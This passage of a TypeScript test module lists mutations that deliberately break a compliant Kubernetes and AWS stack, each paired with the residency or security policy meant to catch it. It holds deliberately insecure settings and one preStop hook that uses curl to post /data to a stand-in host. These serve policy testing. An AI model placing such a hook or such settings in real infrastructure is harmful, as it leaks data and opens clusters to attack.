/**
 * Ways to break a compliant stack. Each is one change of a kind that happens: an edited line, an added object, a removed
 * one, an edited localisation file; with the policy that is there to catch it.
 */
import { pulumiResources, resource } from "../../policies/engine/example.ts";
import type { Example } from "../../policies/engine/policy.ts";
import { parseManifests } from "../../policies/inputs/manifests.ts";
import type { JsonObject, Resource } from "../../policies/resources/resource.ts";
import { isObject, secretMarker, typeKey, unknownValue } from "../../policies/resources/resource.ts";
import { localZoneRoute } from "../../policies/rules/network/local-zone-route.ts";
import { aws } from "./aws-resource.ts";

// biome-ignore lint/suspicious/noExplicitAny: mutants edit properties of any shape
type Draft = any;

export interface Mutation {
  readonly policy: string;
  readonly says: string;
  readonly mutate: (resources: readonly Resource[]) => readonly Mutated[];
}

export interface Mutated {
  readonly resources: readonly Resource[];
  /** The one that was changed or added; absent where one was removed or the file was edited. */
  readonly changed?: Resource;
  readonly country?: JsonObject;
}

/** One mutant for each resource of these types in which the edit finds its place. */
function edit(
  policy: string,
  says: string,
  types: string | readonly string[],
  change: (draft: Draft) => unknown,
): Mutation {
  const keys = new Set((typeof types === "string" ? [types] : types).map(typeKey));
  return {
    policy,
    says,
    mutate: (resources) =>
      resources.flatMap((resource, index) => {
        if (!keys.has(typeKey(resource.type))) return [];
        const properties = structuredClone(resource.properties) as Draft;
        try {
          if (change(properties) === false) return [];
        } catch {
          return [];
        }
        if (JSON.stringify(properties) === JSON.stringify(resource.properties)) return [];
        const changed = { ...resource, properties };
        return [{ resources: resources.with(index, changed), changed }];
      }),
  };
}

function add(policy: string, says: string, what: string | Resource): Mutation {
  const added = typeof what === "string" ? parseManifests(what, "added.yaml") : [what];
  return {
    policy,
    says,
    mutate: (resources) => {
      const [changed] = added;
      return [{ resources: [...resources, ...added], ...(changed && { changed }) }];
    },
  };
}

function remove(policy: string, says: string, gone: (resource: Resource) => boolean): Mutation {
  return {
    policy,
    says,
    mutate: (resources) =>
      resources.some(gone) ? [{ resources: resources.filter((one) => !gone(one)) }] : [],
  };
}

function file(policy: string, says: string, country: JsonObject): Mutation {
  return { policy, says, mutate: (resources) => [{ resources, country }] };
}

const workloads = [
  "kubernetes:apps/v1:Deployment",
  "kubernetes:apps/v1:StatefulSet",
  "kubernetes:batch/v1:Job",
  "kubernetes:batch/v1:CronJob",
];
const pod = (draft: Draft): Draft =>
  draft.spec.jobTemplate ? draft.spec.jobTemplate.spec.template.spec : draft.spec.template.spec;
const terms = (draft: Draft): Draft =>
  pod(draft).affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms;
const container = (draft: Draft): Draft => pod(draft).containers[0];
const environment = (draft: Draft): Draft => {
  container(draft).env ??= [];
  return container(draft).env;
};
const variable = (name: string, value: string) => (draft: Draft) => environment(draft).push({ name, value });
const object = (kind: string, apiVersion: string, name: string, rest: string) =>
  `apiVersion: ${apiVersion}\nkind: ${kind}\nmetadata: { name: ${name}, namespace: rollout }\n${rest}`;
const configMap = (name: string, data: string) =>
  object("ConfigMap", "v1", name, `data:\n  settings: |\n${data.replace(/^/gm, "    ")}`);
const service = (name: string, spec: string) => object("Service", "v1", name, `spec: ${spec}`);
const egressTo = (to: string) =>
  object(
    "NetworkPolicy",
    "networking.k8s.io/v1",
    "extra",
    `spec: { podSelector: {}, policyTypes: [Egress], egress: [{ ${to} }] }`,
  );

/** On any plan for a cluster. */
export const clusterMutations: readonly Mutation[] = [
  edit("value-unknown", "an image that is not known yet", "kubernetes:apps/*:Deployment", (draft) => {
    draft.spec.template.spec.containers[0].image = unknownValue;
  }),
  edit("value-unknown", "data that is hidden", "kubernetes:core/*:ConfigMap", (draft) => {
    draft.data = secretMarker;
  }),
  add(
    "assigned-address",
    "a load balancer that the cloud made abroad",
    "apiVersion: v1\nkind: Service\nmetadata: { name: made, namespace: rollout }\nspec: { ports: [{ port: 8883 }] }\nstatus: { loadBalancer: { ingress: [{ hostname: a.elb.us-east-2.amazonaws.com }] } }",
  ),
  add(
    "volume-abroad",
    "a volume that exists in another zone",
    "apiVersion: v1\nkind: PersistentVolume\nmetadata: { name: old }\nspec: { nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: topology.kubernetes.io/zone, operator: In, values: [elsewhere] }] }] } } }",
  ),
  add(
    "state-settings",
    "a project whose state is at Pulumi's service",
    resource("pulumi:pulumi:Project", "Pulumi.yaml", { backend: { url: "https://api.pulumi.com" } }),
  ),
  // Where pods run.
  edit("region-label-abroad", "nodes of a region abroad", workloads, (draft) => {
    pod(draft).nodeSelector = { "topology.kubernetes.io/region": "westeurope" };
  }),
  edit("pod-zones", "no affinity", workloads, (draft) => delete pod(draft).affinity),
  edit("pod-zones", "a zone abroad next to the country's", workloads, (draft) =>
    terms(draft)[0].matchExpressions[0].values.push("abroad-1"),
  ),
  edit("pod-zones", "a second term without zones", workloads, (draft) =>
    terms(draft).push({ matchExpressions: [{ key: "pool", operator: "Exists" }] }),
  ),
  edit("pod-zones", "zones only preferred", workloads, (draft) => {
    const affinity = pod(draft).affinity.nodeAffinity;
    affinity.preferredDuringSchedulingIgnoredDuringExecution = [{ weight: 100, preference: terms(draft)[0] }];
    delete affinity.requiredDuringSchedulingIgnoredDuringExecution;
  }),
  edit("pod-zones", "all zones but some", workloads, (draft) => {
    terms(draft)[0].matchExpressions[0].operator = "NotIn";
  }),
  edit("pod-zones", "put on a node by name", workloads, (draft) => {
    pod(draft).nodeName = "node-7";
  }),
  edit(
    "pod-zones",
    "the database in any zone",
    "kubernetes:postgresql.cnpg.io/v1:Cluster",
    (draft) => delete draft.spec.affinity,
  ),
  // What they run.
  edit("image-registry", "an image of a public registry", workloads, (draft) => {
    container(draft).image = "docker.io/library/nginx:1.29";
  }),
  edit("image-registry", "an image without a registry", workloads, (draft) => {
    container(draft).image = "nginx";
  }),
  edit("image-registry", "an init container from abroad", workloads, (draft) => {
    pod(draft).initContainers = [
      ...(pod(draft).initContainers ?? []),
      { name: "wait", image: "ghcr.io/wait/wait:1.0.0" },
    ];
  }),
  edit(
    "image-registry",
    "the database's image from abroad",
    "kubernetes:postgresql.cnpg.io/v1:Cluster",
    (draft) => {
      draft.spec.imageName = "ghcr.io/cloudnative-pg/postgresql:18";
    },
  ),
  edit("image-unpinned", "an image by latest", workloads, (draft) => {
    container(draft).image = container(draft).image.replace(/:[^:/@]+(@.*)?$/, ":latest");
  }),
  // Past the isolation.
  edit("host-access", "the node's network", workloads, (draft) => {
    pod(draft).hostNetwork = true;
  }),
  edit("host-access", "the node's processes", workloads, (draft) => {
    pod(draft).hostPID = "true";
  }),
  edit("host-access", "a folder of the node", workloads, (draft) => {
    pod(draft).volumes = [...(pod(draft).volumes ?? []), { name: "host", hostPath: { path: "/var/lib" } }];
  }),
  edit("host-access", "a port of the node", workloads, (draft) => {
    container(draft).ports = [{ containerPort: 8443, hostPort: 443 }];
  }),
  edit("pod-security", "privileged", workloads, (draft) => {
    container(draft).securityContext.privileged = true;
  }),
  edit(
    "pod-security",
    "privilege escalation",
    workloads,
    (draft) => delete container(draft).securityContext.allowPrivilegeEscalation,
  ),
  edit("pod-security", "as root", workloads, (draft) => {
    container(draft).securityContext.runAsUser = 0;
  }),
  edit(
    "pod-security",
    "capabilities of root",
    workloads,
    (draft) => delete container(draft).securityContext.capabilities,
  ),
  edit("service-account-token", "a token of the default account", workloads, (draft) => {
    pod(draft).automountServiceAccountToken = true;
    delete pod(draft).serviceAccountName;
  }),
  edit("network-volume", "a volume over NFS from abroad", workloads, (draft) => {
    pod(draft).volumes = [
      ...(pod(draft).volumes ?? []),
      { name: "far", nfs: { server: "nfs.example.com", path: "/" } },
    ];
  }),
  edit("network-volume", "a disk of a cloud", workloads, (draft) => {
    pod(draft).volumes = [
      ...(pod(draft).volumes ?? []),
      { name: "far", azureFile: { shareName: "a", secretName: "b" } },
    ];
  }),
  // What they send.
  edit(
    "unregistered-host",
    "traces to a collector abroad",
    workloads,
    variable("OTEL_EXPORTER_OTLP_ENDPOINT", "https://otlp.example.com:4318"),
  ),
  edit("unregistered-host", "a bare host", workloads, variable("SMTP_HOST", "smtp.example.com")),
  edit("unregistered-host", "an address by number", workloads, variable("COLLECTOR", "203.0.113.7:4317")),
  edit(
    "unregistered-host",
    "a store of AWS abroad",
    workloads,
    variable("S3_ENDPOINT", "https://s3.eu-west-1.amazonaws.com"),
  ),
  edit(
    "unregistered-host",
    "the global address of AWS",
    workloads,
    variable("STS_ENDPOINT", "https://sts.amazonaws.com"),
  ),
  edit("unregistered-host", "an argument", workloads, (draft) => {
    container(draft).args = [...(container(draft).args ?? []), "--upstream=api.example.com"];
  }),
  edit("unregistered-host", "a webhook after a stop", workloads, (draft) => {
    container(draft).lifecycle = {
      preStop: { exec: { command: ["curl", "-d@/data", "https://drop.example.com/"] } },
    };
  }),
  edit("telemetry-service", "Sentry", workloads, (draft) =>
    environment(draft).push({
      name: "SENTRY_DSN",
      valueFrom: { secretKeyRef: { name: "sentry", key: "dsn" } },
    }),
  ),
  edit("telemetry-service", "Datadog", workloads, variable("DD_API_KEY", "from-elsewhere")),
  edit("telemetry-service", "an AI service", workloads, variable("OPENAI_API_KEY", "from-elsewhere")),
  edit(
    "cross-region-inference",
    "a model over regions",
    workloads,
    variable("MODEL", "global.anthropic.claude-sonnet-4-20250514-v1:0"),
  ),
  edit(
    "plaintext-address",
    "plain HTTP inside",
    workloads,
    variable("STORE_URL", "http://time-series-store:8123"),
  ),
  edit(
    "plaintext-address",
    "certificates unchecked",
    workloads,
    variable("NODE_TLS_REJECT_UNAUTHORIZED", "0"),
  ),
  edit(
    "secret-in-plain",
    "a password in a variable",
    workloads,
    variable("DATABASE_PASSWORD", "correct-horse"),
  ),
  edit(
    "secret-in-plain",
    "a private key in a variable",
    workloads,
    variable("CERTIFICATE", "-----BEGIN EC PRIVATE KEY-----\nMHc"),
  ),
  edit(
    "page-sources",
    "a policy of pages that lets fonts in",
    workloads,
    variable("CONTENT_SECURITY_POLICY", "default-src 'self'; font-src fonts.gstatic.com"),
  ),
  edit(
    "anonymous-login",
    "a database that trusts everybody",
    workloads,
    variable("POSTGRES_HOST_AUTH_METHOD", "trust"),
  ),
  // Where data is stored.
  edit(
    "claim-storage-class",
    "the cluster's default storage class",
    "kubernetes:apps/v1:StatefulSet",
    (draft) => delete draft.spec.volumeClaimTemplates[0].spec.storageClassName,
  ),
  edit("claim-storage-class", "another storage class", "kubernetes:apps/v1:StatefulSet", (draft) => {
    draft.spec.volumeClaimTemplates[0].spec.storageClassName = "geo-replicated";
  }),
  edit(
    "claim-storage-class",
    "the database on another storage class",
    "kubernetes:postgresql.cnpg.io/v1:Cluster",
    (draft) => {
      draft.spec.storage.storageClass = "geo-replicated";
    },
  ),
  edit("data-class-unstated", "no class of data", "kubernetes:apps/v1:StatefulSet", (draft) => {
    delete draft.metadata.annotations;
    delete draft.spec.volumeClaimTemplates[0].metadata.annotations;
  }),
  edit("data-class-unstated", "a class that is none", "kubernetes:postgresql.cnpg.io/v1:Cluster", (draft) => {
    draft.metadata.annotations = { "rollout/data-classes": "everything" };
  }),
  edit("backup-location", "backups abroad", "kubernetes:barmancloud.cnpg.io/v1:ObjectStore", (draft) => {
    draft.spec.configuration.endpointURL = "https://s3.example.com";
  }),
  edit(
    "backup-location",
    "backups to AWS by default",
    "kubernetes:barmancloud.cnpg.io/v1:ObjectStore",
    (draft) => delete draft.spec.configuration.endpointURL,
  ),
  edit(
    "backup-retention",
    "backups for ten years",
    "kubernetes:barmancloud.cnpg.io/v1:ObjectStore",
    (draft) => {
      draft.spec.retentionPolicy = "3650d";
    },
  ),
  edit(
    "backup-retention",
    "backups for ever",
    "kubernetes:barmancloud.cnpg.io/v1:ObjectStore",
    (draft) => delete draft.spec.retentionPolicy,
  ),
  edit(
    "no-backup",
    "the database without a store for backups",
    "kubernetes:postgresql.cnpg.io/v1:Cluster",
    (draft) => delete draft.spec.plugins,
  ),
  remove("no-backup", "no schedule of backups", ({ type }) => type.endsWith(":ScheduledBackup")),
  edit(
    "data-durability",
    "a database that does not wait for its disk",
    "kubernetes:postgresql.cnpg.io/v1:Cluster",
    (draft) => {
      draft.spec.postgresql.parameters.fsync = "off";
    },
  ),
  edit("data-durability", "messages that expire", "kubernetes:core/v1:ConfigMap", (draft) => {
    const text: string = draft.data["definitions.json"];
    draft.data["definitions.json"] = text.replace('"overflow"', '"message-ttl": 1000, "overflow"');
  }),
  edit("workload-basics", "no probe of readiness", "kubernetes:apps/v1:Deployment", (draft) => {
    for (const container of draft.spec.template.spec.containers) delete container.readinessProbe;
  }),
  remove("admission-policies", "one of the stack's admission policies taken away", ({ name }) =>
    name.startsWith("ValidatingAdmissionPolicyBinding/"),
  ),
  // Walls.
  remove("default-deny-egress", "no closing policy", ({ name }) => name.endsWith("NetworkPolicy/closed")),
  remove("default-deny-ingress", "no closing policy, from the other side", ({ name }) =>
    name.endsWith("NetworkPolicy/closed"),
  ),
  edit("egress-rules", "out to everywhere", "kubernetes:networking.k8s.io/v1:NetworkPolicy", (draft) => {
    if (!draft.spec.policyTypes.includes("Egress")) return false;
    draft.spec.egress = [...(draft.spec.egress ?? []), { to: [{ ipBlock: { cidr: "0.0.0.0/0" } }] }];
    return true;
  }),
  edit("egress-rules", "out to all of IPv6", "kubernetes:networking.k8s.io/v1:NetworkPolicy", (draft) => {
    if (!draft.spec.policyTypes.includes("Egress")) return false;
    draft.spec.egress = [...(draft.spec.egress ?? []), { to: [{ ipBlock: { cidr: "::/0" } }] }];
    return true;
  }),
  edit(
    "egress-rules",
    "a rule without destinations",
    "kubernetes:networking.k8s.io/v1:NetworkPolicy",
    (draft) => {
      if (!draft.spec.policyTypes.includes("Egress")) return false;
      draft.spec.egress = [...(draft.spec.egress ?? []), {}];
      return true;
    },
  ),
  add("egress-rules", "out to an address abroad", egressTo("to: [{ ipBlock: { cidr: 203.0.113.0/24 } }]")),
  add("egress-rules", "out to half of the internet", egressTo("to: [{ ipBlock: { cidr: 128.0.0.0/1 } }]")),
  add(
    "egress-rules",
    "Cilium to the world",
    object("CiliumNetworkPolicy", "cilium.io/v2", "world", "spec: { egress: [{ toEntities: [world] }] }"),
  ),
  add(
    "egress-rules",
    "a name through Istio",
    object("ServiceEntry", "networking.istio.io/v1", "far", "spec: { hosts: [api.example.com] }"),
  ),
  edit(
    "namespace-security",
    "no Pod Security",
    "kubernetes:core/v1:Namespace",
    (draft) => delete draft.metadata.labels["pod-security.kubernetes.io/enforce"],
  ),
  edit("namespace-security", "baseline only", "kubernetes:core/v1:Namespace", (draft) => {
    draft.metadata.labels["pod-security.kubernetes.io/enforce"] = "baseline";
  }),
  // Names and doors.
  edit("external-addresses", "external addresses", "kubernetes:core/v1:Service", (draft) => {
    draft.spec.externalIPs = ["196.25.1.20"];
  }),
  edit("external-name", "another name", "kubernetes:core/v1:Service", (draft) => {
    draft.spec = { type: "ExternalName", externalName: "db.example.com" };
  }),
  edit("plaintext-mqtt", "plain MQTT outside", "kubernetes:core/v1:Service", (draft) => {
    draft.spec.type = "LoadBalancer";
    draft.spec.ports = [{ name: "mqtt", port: 1883 }];
  }),
  edit("plaintext-mqtt", "a plain listener", "kubernetes:core/v1:ConfigMap", (draft) => {
    if (!draft.data["rabbitmq.conf"]) return false;
    draft.data["rabbitmq.conf"] = draft.data["rabbitmq.conf"].replace(
      "mqtt.listeners.tcp = none",
      "mqtt.listeners.tcp.default = 1883",
    );
    return true;
  }),
  edit("anonymous-login", "machines without a login", "kubernetes:core/v1:ConfigMap", (draft) => {
    if (!draft.data["rabbitmq.conf"]) return false;
    draft.data["rabbitmq.conf"] = draft.data["rabbitmq.conf"].replace(
      "mqtt.allow_anonymous = false",
      "mqtt.allow_anonymous = true",
    );
    return true;
  }),
  edit("message-bridge", "a plugin for shovels", "kubernetes:core/v1:ConfigMap", (draft) => {
    if (!draft.data.enabled_plugins) return false;
    draft.data.enabled_plugins = draft.data.enabled_plugins.replace("[", "[rabbitmq_shovel,");
    return true;
  }),
  edit("message-bridge", "a shovel among the definitions", "kubernetes:core/v1:ConfigMap", (draft) => {
    if (!draft.data["definitions.json"]) return false;
    const definitions = JSON.parse(draft.data["definitions.json"]);
    definitions.parameters.push({
      component: "shovel",
      name: "copy",
      value: { "dest-uri": "amqps://10.0.0.9" },
    });
    draft.data["definitions.json"] = JSON.stringify(definitions);
    return true;
  }),
  edit("product-telemetry", "crash reports of the store", "kubernetes:core/v1:ConfigMap", (draft) => {
    const name = Object.keys(draft.data).find((key) => draft.data[key].includes("send_crash_reports"));
    if (name === undefined) return false;
    draft.data[name] = draft.data[name].replace(/(send_crash_reports:\s+enabled: )false/, "$1true");
    return true;
  }),
  edit(
    "route-without-tls",
    "pages without TLS",
    "kubernetes:networking.k8s.io/v1:Ingress",
    (draft) => delete draft.spec.tls,
  ),
  edit(
    "edge-annotation",
    "a content network before the pages",
    "kubernetes:networking.k8s.io/v1:Ingress",
    (draft) => {
      draft.metadata.annotations = {
        ...draft.metadata.annotations,
        "external-dns.alpha.kubernetes.io/cloudflare-proxied": "true",
      };
    },
  ),
  add(
    "certificate-authority",
    "an authority abroad",
    object(
      "Issuer",
      "cert-manager.io/v1",
      "acme",
      "spec: { acme: { server: https://acme-v02.api.letsencrypt.org/directory } }",
    ),
  ),
  add(
    "endpoints-outside",
    "addresses behind a Service",
    object(
      "EndpointSlice",
      "discovery.k8s.io/v1",
      "far",
      "addressType: IPv4\nendpoints: [{ addresses: [203.0.113.9] }]",
    ),
  ),
  add(
    "load-balancer-sources",
    "machines from everywhere",
    service("doors", "{ type: LoadBalancer, ports: [{ port: 8883 }] }"),
  ),
  // Objects of others.
  edit("unrendered-chart", "a chart of others", "kubernetes:helm.sh/v3:Release", (draft) => {
    draft.chart = "oci://ghcr.io/cloudnative-pg/charts/cloudnative-pg";
  }),
  edit(
    "unrendered-chart",
    "a chart without a version",
    "kubernetes:helm.sh/v3:Release",
    (draft) => delete draft.version,
  ),
  add(
    "unrendered-chart",
    "an application of Argo CD",
    object(
      "Application",
      "argoproj.io/v1alpha1",
      "more",
      "spec: { source: { repoURL: https://git.example.com/x, targetRevision: main } }",
    ),
  ),
  add("message-bridge", "Mosquitto's bridge", configMap("mosquitto", "connection cloud\naddress 10.0.0.9")),
  add("unregistered-host", "a broker abroad in settings", configMap("settings", "server: mqtt.example.com")),
  add(
    "anonymous-login",
    "Mosquitto without logins",
    configMap("mosquitto", "listener 8883\nallow_anonymous true"),
  ),
  add(
    "secret-in-plain",
    "a password in an address",
    configMap("settings", "url: amqps://ingest:correct-horse@broker:5671"),
  ),
  add(
    "metrics-sink",
    "metrics to a cloud",
    object(
      "Prometheus",
      "monitoring.coreos.com/v1",
      "main",
      "spec: { remoteWrite: [{ url: https://write.example.com }] }",
    ),
  ),
  add(
    "admission-webhook",
    "a webhook abroad",
    "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: { name: far }\nwebhooks: [{ name: a.example.com, clientConfig: { url: https://hooks.example.com } }]",
  ),
  add(
    "secret-store",
    "secrets from a vault abroad",
    object(
      "SecretStore",
      "external-secrets.io/v1",
      "vault",
      "spec: { provider: { vault: { server: https://vault.example.com } } }",
    ),
  ),
  add(
    "secret-store",
    "secrets pushed elsewhere",
    object("PushSecret", "external-secrets.io/v1alpha1", "push", "spec: {}"),
  ),
  add(
    "snapshot-class",
    "snapshots abroad",
    "apiVersion: snapshot.storage.k8s.io/v1\nkind: VolumeSnapshotClass\nmetadata: { name: far }\ndriver: ebs.csi.aws.com\nparameters: { region: eu-west-1 }",
  ),
  add(
    "storage-class-topology",
    "a storage class for any zone",
    "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: { name: any }\nprovisioner: csi.example.com\nvolumeBindingMode: WaitForFirstConsumer",
  ),
  add(
    "storage-class-encryption",
    "disks without encryption",
    "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: { name: clear }\nprovisioner: rbd.csi.ceph.com",
  ),
  add(
    "network-volume",
    "a volume abroad",
    "apiVersion: v1\nkind: PersistentVolume\nmetadata: { name: far }\nspec: { nfs: { server: nfs.example.com, path: / } }",
  ),
  add(
    "node-pool-zone",
    "nodes anywhere",
    "apiVersion: karpenter.sh/v1\nkind: NodePool\nmetadata: { name: any }\nspec: { template: { spec: { requirements: [] } } }",
  ),
  add(
    "multi-cluster",
    "a Service for other clusters",
    object("ServiceExport", "multicluster.x-k8s.io/v1alpha1", "broker", ""),
  ),
  add(
    "access-rights",
    "everything for a desk",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: { name: desk }\nrules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]",
  ),
  add(
    "access-rights",
    "everybody is administrator",
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: all }\nroleRef: { name: cluster-admin }\nsubjects: [{ kind: Group, name: 'system:unauthenticated' }]",
  ),
  add(
    "product-telemetry",
    "Grafana that reports home",
    object(
      "Pod",
      "v1",
      "grafana",
      "spec: { containers: [{ name: grafana, image: registry/grafana/grafana:12 }] }",
    ),
  ),
  add(
    "backup-location",
    "Velero to another region",
    object(
      "BackupStorageLocation",
      "velero.io/v1",
      "far",
      "spec: { provider: aws, config: { region: eu-west-1 } }",
    ),
  ),
  add(
    "unmapped-type",
    "an operator that no policy knows",
    object("Tenant", "minio.min.io/v2", "objects", ""),
  ),
  add("unmapped-type", "another cloud", {
    ...aws("s3/bucket:Bucket", "x", {}),
    type: "gcp:storage/bucket:Bucket",
  }),
  // The provider.
  edit("provider-endpoint", "a cluster abroad", "pulumi:providers:kubernetes", (draft) => {
    draft.kubeconfig = "clusters: [{ cluster: { server: https://k8s.example.com:6443 } }]";
  }),
  // The file.
  file("backup-destination", "the store of backups abroad", {
    hosting: { backup: { destination: { country: "IE" } } },
  }),
  file("retention-beyond-class", "backups for longer than allowed", {
    hosting: { backup: { retention: "P10Y" } },
  }),
  file("small-cells", "figures of one company", { aggregates: { minimumCount: 1 } }),
  file("breach-notice", "no clock for breaches", { residency: { breachNotice: null } }),
  file("state-abroad", "the state abroad", {
    hosting: { state: { backend: "bucket", url: "s3://state?region=us-east-1", country: "US" } },
  }),
  file("state-abroad", "the state's key abroad", {
    hosting: { state: { secrets: "aws-kms", key: "arn:aws:kms:us-east-1:123456789012:key/1" } },
  }),
  file("remote-access", "support from abroad", {
    residency: { remoteAccess: [{ who: "Desk", from: "US", why: "Support", until: "2027-01-01" }] },
  }),
  file("endpoint-abroad", "a gateway of mail abroad", {
    residency: {
      endpoints: [
        {
          host: "smtp.example.com",
          ports: [587],
          addresses: [],
          purpose: "mail",
          country: "US",
          dataClasses: ["identity"],
        },
      ],
    },
  }),
  file("transfer-evidence", "a transfer without evidence", {
    residency: {
      transfers: [
        {
          id: "x",
          dataClasses: ["aggregates"],
          recipient: "X",
          to: "CH",
          mechanism: "law",
          article: "a:1",
          evidence: "tbd",
        },
      ],
    },
  }),
  ...(
    [
      ["waiver-expired", "2026-01-01", "N. Dlamini"],
      ["waiver-unused", "2026-12-31", "N. Dlamini"],
      ["waiver-unsigned", "2026-12-31", "the team"],
    ] as const
  ).map(([policy, until, who]) =>
    file(policy, `a waiver until ${until} by ${who}`, {
      residency: {
        waivers: [
          { id: "x", policy: "image-unpinned", resource: "nothing", why: "Because it is so.", who, until },
        ],
      },
    }),
  ),
];

const all = (draft: Draft, path: string, value: unknown) => {
  const keys = path.split(".");
  const last = keys.pop() ?? "";
  let at = draft;
  for (const key of keys) at = at[key];
  at[last] = value;
};
const set = (policy: string, type: string, path: string, value: unknown): Mutation =>
  edit(policy, `${path} = ${JSON.stringify(value)}`, `aws:${type}`, (draft) => all(draft, path, value));
const unset = (policy: string, type: string, path: string): Mutation =>
  edit(policy, `no ${path}`, `aws:${type}`, (draft) => {
    if (!isObject(draft) || !(path in draft)) return false;
    delete (draft as Draft)[path];
    return true;
  });

const far = "arn:aws:kms:eu-west-1:123456789012:key/1a2b";
const stranger = "arn:aws:iam::999999999999:root";
const allow = (principal: unknown) =>
  JSON.stringify({ Statement: [{ Effect: "Allow", Principal: principal, Action: "*", Resource: "*" }] });

/** Types that the stack has and that a region of their own moves abroad. */
const movable = [
  "kms/key:Key",
  "ec2/vpc:Vpc",
  "ec2/subnet:Subnet",
  "eks/cluster:Cluster",
  "rds/instance:Instance",
  "ebs/volume:Volume",
  "s3/bucket:Bucket",
  "secretsmanager/secret:Secret",
  "ecr/repository:Repository",
  "backup/vault:Vault",
  "backup/plan:Plan",
  "cloudwatch/logGroup:LogGroup",
  "cloudtrail/trail:Trail",
  "sqs/queue:Queue",
  "sns/topic:Topic",
  "lb/loadBalancer:LoadBalancer",
];

/** On the stack on AWS. */
export const awsMutations: readonly Mutation[] = [
  {
    policy: "local-zone-route",
    says: "a way out of a Local Zone by its region abroad",
    mutate: (resources) => {
      const [example = {}]: readonly Example[] = localZoneRoute.examples.failing;
      const { country } = example;
      const added = pulumiResources(example);
      const changed = added.at(-1);
      return [
        {
          resources: [...resources, ...added],
          ...(changed && { changed }),
          ...(country && { country }),
        },
      ];
    },
  },
  ...movable.map((type) => set("region-abroad", type, "region", "eu-west-1")),
  ...["us-east-1", "eu-central-1", "cn-north-1", "xx-nowhere-1"].map((region) =>
    set("region-abroad", "rds/instance:Instance", "region", region),
  ),
  edit("region-abroad", "the provider abroad", "pulumi:providers:aws", (draft) => {
    draft.region = "eu-central-1";
  }),
  edit(
    "region-abroad",
    "the provider without a region",
    "pulumi:providers:aws",
    (draft) => delete draft.region,
  ),
  edit("account-unlisted", "any account", "pulumi:providers:aws", (draft) => delete draft.allowedAccountIds),
  edit("account-unlisted", "a role of another account", "pulumi:providers:aws", (draft) => {
    draft.assumeRoles = [{ roleArn: "arn:aws:iam::999999999999:role/deploy" }];
  }),
  edit("provider-endpoint", "another server for S3", "pulumi:providers:aws", (draft) => {
    draft.endpoints = [{ s3: "https://s3.example.com" }];
  }),
  ...["af-south-1-los-1a", "eu-central-1a", "af-south-1d"].flatMap((zone) => [
    set("zone-abroad", "ec2/subnet:Subnet", "availabilityZone", zone),
    set("zone-abroad", "ebs/volume:Volume", "availabilityZone", zone),
  ]),
  set("zone-abroad", "ec2/subnet:Subnet", "availabilityZoneId", "afs1-az1"),
  // Copies.
  add(
    "bucket-replication",
    "a bucket copied to an unknown region",
    aws("s3/bucketReplicationConfig:BucketReplicationConfig", "copy", {
      bucket: "backups",
      rules: [{ destination: { bucket: "arn:aws:s3:::elsewhere" } }],
    }),
  ),
  add(
    "bucket-replication",
    "a bucket copied to another account",
    aws("s3/bucketReplicationConfig:BucketReplicationConfig", "copy", {
      bucket: "backups",
      rules: [{ destination: { bucket: "arn:aws:s3:::audit", account: "999999999999" } }],
    }),
  ),
  add(
    "multi-region-access-point",
    "an access point over regions",
    aws("s3control/multiRegionAccessPoint:MultiRegionAccessPoint", "all", {}),
  ),
  set("bucket-report-target", "s3/bucketLogging:BucketLogging", "targetBucket", "elsewhere"),
  add(
    "snapshot-copy",
    "snapshots copied each night",
    aws("dlm/lifecyclePolicy:LifecyclePolicy", "copy", {
      policyDetails: { schedules: [{ crossRegionCopyRules: [{ targetRegion: "eu-west-1" }] }] },
    }),
  ),
  add(
    "snapshot-copy",
    "a snapshot of the database copied",
    aws("rds/snapshotCopy:SnapshotCopy", "copy", { destinationRegion: "eu-west-1" }),
  ),
  edit("backup-vault-copy", "backups copied abroad", "aws:backup/plan:Plan", (draft) => {
    draft.rules[0].copyActions = [
      { destinationVaultArn: "arn:aws:backup:eu-west-1:123456789012:backup-vault:x" },
    ];
  }),
  edit("backup-vault-copy", "backups copied to another account", "aws:backup/plan:Plan", (draft) => {
    draft.rules[0].copyActions = [
      { destinationVaultArn: "arn:aws:backup:af-south-1:999999999999:backup-vault:x" },
    ];
  }),
  add(
    "database-replica",
    "a replica from another region",
    aws("rds/instance:Instance", "reader", {
      replicateSourceDb: "arn:aws:rds:eu-west-1:123456789012:db:accounts",
      tags: { "rollout/data-classes": "identity" },
    }),
  ),
  add("global-database", "a global database", aws("rds/globalCluster:GlobalCluster", "all", {})),
  add(
    "table-replica",
    "a table in another region",
    aws("dynamodb/table:Table", "x", { replicas: [{ regionName: "eu-west-1" }] }),
  ),
  add(
    "file-system-replication",
    "files in another region",
    aws("efs/replicationConfiguration:ReplicationConfiguration", "x", {
      destination: { region: "eu-west-1" },
    }),
  ),
  add(
    "broker-replication",
    "a mirrored broker",
    aws("mq/broker:Broker", "x", { dataReplicationMode: "CRDR" }),
  ),
  set("secret-replica", "secretsmanager/secret:Secret", "replicas", [{ region: "eu-west-1" }]),
  set("key-multi-region", "kms/key:Key", "multiRegion", true),
  add("key-multi-region", "a replica of a key", aws("kms/replicaKey:ReplicaKey", "x", {})),
  add(
    "key-store-outside",
    "keys at others",
    aws("kms/customKeyStore:CustomKeyStore", "x", { xksProxyUriEndpoint: "https://keys.example.com" }),
  ),
  add(
    "registry-replication",
    "images in another region",
    aws("ecr/replicationConfiguration:ReplicationConfiguration", "x", {
      replicationConfiguration: {
        rules: [{ destinations: [{ region: "eu-west-1", registryId: "123456789012" }] }],
      },
    }),
  ),
  add(
    "data-transfer-service",
    "a task that moves data",
    aws("datasync/locationObjectStorage:LocationObjectStorage", "x", {
      serverHostname: "objects.example.com",
    }),
  ),
  add(
    "region-named-abroad",
    "an inventory to another region",
    aws("ssm/resourceDataSync:ResourceDataSync", "x", { s3Destination: { region: "eu-west-1" } }),
  ),
  add(
    "foreign-zone-opt-in",
    "an opt-in",
    aws("ec2/availabilityZoneGroup:AvailabilityZoneGroup", "x", {
      groupName: "af-south-1-los-1",
      optInStatus: "opted-in",
    }),
  ),
